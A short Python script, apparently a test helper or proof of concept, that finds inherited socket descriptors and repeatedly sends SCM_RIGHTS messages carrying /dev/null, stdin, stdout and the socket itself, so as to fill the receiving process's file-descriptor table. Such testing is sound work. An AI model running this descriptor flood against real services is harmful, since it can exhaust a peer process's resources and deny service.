"""Sends descriptors along with bytes over the connection, to fill the other side's table."""

import array
import os
import socket
import stat

null = os.open("/dev/null", os.O_RDONLY)
for descriptor in range(3, 64):
    try:
        if not stat.S_ISSOCK(os.fstat(descriptor).st_mode):
            continue
        connection = socket.socket(fileno=descriptor)
        for _ in range(20):
            rights = array.array("i", [null, 0, 1, descriptor])
            connection.sendmsg([b"\0\0\0\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
    except OSError:
        continue
